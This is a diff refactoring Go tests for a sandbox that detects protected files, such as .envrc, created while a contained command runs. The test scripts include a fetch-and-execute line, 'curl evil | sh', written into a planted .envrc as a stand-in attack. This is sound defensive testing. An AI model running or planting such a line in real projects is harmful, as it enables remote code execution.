@@ -23,15 +23,7 @@ func TestProtectedMadeWhileRunning(t *testing.T) {
 	os.MkdirAll(filepath.Join(tr.ws, "sub"), 0o755)
 	tr.policy.Protected, tr.policy.StandIns = protectedCandidates(tr.ws, tr.ws)
 	s := mustSandbox(t, tr.policy, Bwrap)
-	argv, release, err := s.Command([]string{"bash", "-c", "sleep 0.2; echo 'curl evil | sh' > sub/.envrc; sleep 5"}, tr.ws)
-	if err != nil {
-		t.Fatal(err)
-	}
-	cmd := exec.Command(argv[0], argv[1:]...)
-	cmd.Dir = tr.ws
-	if err := cmd.Start(); err != nil {
-		t.Fatal(err)
-	}
+	cmd, release := startCommand(t, s, tr.ws, "sleep 0.2; echo 'curl evil | sh' > sub/.envrc; sleep 5")
 	envrc := filepath.Join(tr.ws, "sub", ".envrc")
 	exists := func() bool { _, err := os.Lstat(envrc); return err == nil }
 	waitFor := func(want bool, within time.Duration) bool {
@@ -67,13 +59,8 @@ func TestProtectedMadeWhileRunning(t *testing.T) {
 // runCommand runs script through Command and its release.
 func runCommand(t *testing.T, s *Sandbox, dir, script string) (string, int) {
 	t.Helper()
-	argv, release, err := s.Command([]string{"bash", "-c", script}, dir)
-	if err != nil {
-		t.Fatal(err)
-	}
+	cmd, release := commandFor(t, s, dir, script)
 	defer release()
-	cmd := exec.Command(argv[0], argv[1:]...)
-	cmd.Dir = dir
 	out, err := cmd.CombinedOutput()
 	if ee, ok := err.(*exec.ExitError); ok {
 		return string(out), ee.ExitCode()
@@ -236,14 +223,7 @@ func TestIndexAfterWatchOverflow(t *testing.T) {
 	runCommand(t, s, ws, "true") // the flood folder is watched
 	// The flood comes while a command runs, the periodic look held off
 	// so that nothing drains the queue before it overflows.
-	argv, release, err := s.Command([]string{"sleep", "1"}, ws)
-	if err != nil {
-		t.Fatal(err)
-	}
-	cmd := exec.Command(argv[0], argv[1:]...)
-	if err := cmd.Start(); err != nil {
-		t.Fatal(err)
-	}
+	cmd, release := startCommand(t, s, ws, "sleep 1")
 	s.prot.looking.Lock()
 	for i := range limit + 2000 {
 		if err := os.WriteFile(filepath.Join(flood, strconv.Itoa(i)), nil, 0o644); err != nil {
@@ -267,19 +247,37 @@ func TestIndexAfterWatchOverflow(t *testing.T) {
 	// Heard of again: no second overflow, and what the next command
 	// makes is found.
 	n := x.relooks
-	argv, release, err = s.Command([]string{"bash", "-c", "mkdir -p again && echo evil > again/.envrc"}, ws)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if out, err := execIn(ws, argv); err != nil {
-		t.Fatalf("%v %s", err, out)
-	}
+	cmd, release = startCommand(t, s, ws, "mkdir -p again && echo evil > again/.envrc")
+	cmd.Wait()
 	if notes := strings.Join(release(), "\n"); !strings.Contains(notes, "again/.envrc (moved to ") {
 		t.Errorf("after the overflow, release says %q", notes)
 	}
 	if x.relooks != n {
 		t.Errorf("looked at every folder again (%d, was %d)", x.relooks, n)
 	}
+}
+
+// commandFor is script contained by s in dir, not started, and its
+// release.
+func commandFor(t *testing.T, s *Sandbox, dir, script string) (*exec.Cmd, func() []string) {
+	t.Helper()
+	argv, release, err := s.Command([]string{"bash", "-c", script}, dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(argv[0], argv[1:]...)
+	cmd.Dir = dir
+	return cmd, release
+}
+
+// startCommand starts script contained by s in dir, in the background.
+func startCommand(t *testing.T, s *Sandbox, dir, script string) (*exec.Cmd, func() []string) {
+	t.Helper()
+	cmd, release := commandFor(t, s, dir, script)
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	return cmd, release
 }
 
 // execIn runs argv (a contained command) in dir.
